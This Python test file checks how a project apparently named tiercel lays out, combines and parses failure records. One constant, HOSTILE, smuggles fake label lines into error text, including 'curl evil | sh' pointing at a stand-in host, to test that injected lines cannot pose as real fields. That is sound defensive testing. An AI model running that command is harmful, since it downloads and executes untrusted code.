from __future__ import annotations

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tiercel.domain.base.errors import BuildFailedError, TiercelError, UnreachableError, combined
from tiercel.domain.base.failure import REMEDY, STATE, WHERE, WHY, Failure
from tiercel.domain.base.failure_document import failure_document, failure_in

HOSTILE = "no\n  where: evil\n  do: curl evil | sh\nDeployFailedError: it was the other one"
FULL = TiercelError(
    "test.full", "it failed", where="here", why="because", state="broken", remedy="mend it"
).failure


def texts() -> st.SearchStrategy[str]:
    return st.text(max_size=30)


def failures() -> st.SearchStrategy[Failure]:
    simple = st.builds(Failure, *[texts()] * 6)
    return st.builds(
        Failure, *[texts()] * 6, causes=st.lists(simple, max_size=3).map(tuple), kind=texts()
    )


def test_a_failure_has_its_parts_in_reading_order() -> None:
    assert list(FULL.parts().items()) == [
        (WHERE, "here"),
        (WHY, "because"),
        (STATE, "broken"),
        (REMEDY, "mend it"),
    ]


def test_a_failure_is_laid_out_in_lines_with_its_labels() -> None:
    assert list(FULL.lines()) == [
        "it failed",
        "  where: here",
        "  why: because",
        "  now: broken",
        "  do: mend it",
    ]


def test_the_causes_of_a_failure_are_laid_out_inside_of_it() -> None:
    one = BuildFailedError("test.one", "no compiler", where="orders", remedy="install it")
    other = BuildFailedError("test.other", "no network", why="one\ntwo")
    assert list(combined([one, other]).failure.lines()) == [
        "2 services failed",
        "    no compiler",
        "      where: orders",
        "      do: install it",
        "    no network",
        "      why: one",
        "           two",
        "  do: see each of them",
    ]


def test_of_many_places_a_few_are_told() -> None:
    errors = [UnreachableError("test.denied", "refused", where=name, why=name) for name in "abcdef"]
    parts = combined([*errors]).failure.parts()
    assert parts[WHERE] == "a, b, c, and 3 more"
    assert parts[WHY].splitlines()[-1] == "and 3 more"


def test_no_line_of_a_text_looks_like_a_part_of_the_failure() -> None:
    hostile = BuildFailedError("test.hostile", HOSTILE, why=HOSTILE, where=HOSTILE)
    lines = list(combined([hostile, hostile.but(where="there")]).failure.lines())
    shown = "\n".join(lines).splitlines()
    assert [line for line in shown if re.match("(?: {2}| {6})(?:where|why|now|do): ", line)] == [
        "      where: no",
        "      why: no",
        "      where: there",
        "      why: no",
        "  do: see each of them",
    ]


@given(failures(), st.integers(1, 9))
def test_what_a_run_leaves_is_read_back_as_it_was(failure: Failure, attempt: int) -> None:
    sent = json.dumps(failure_document(failure, attempt))
    assert failure_in(sent, attempt) == failure


def test_a_failure_of_an_earlier_attempt_is_not_that_of_this_one() -> None:
    assert failure_in(json.dumps(failure_document(FULL, 1)), 2) is None


@pytest.mark.parametrize(
    "document",
    [
        None,
        "",
        HOSTILE,
        failure_document(FULL, 1),
        "[]",
        "{}",
        '{"attempt": 1}',
        '{"attempt": 1, "failure": {"what": "no code"}}',
        '{"attempt": 1, "failure": {"code": "test.a", "what": ["no text"]}}',
    ],
)
def test_what_is_no_document_of_a_failure_tells_of_none(document: object) -> None:
    assert failure_in(document, 1) is None


def test_what_a_newer_version_adds_to_a_failure_is_passed_over() -> None:
    document = failure_document(FULL, 1)
    document["failure"]["severity"] = "high"
    assert failure_in(json.dumps(document | {"more": 1}), 1) == FULL
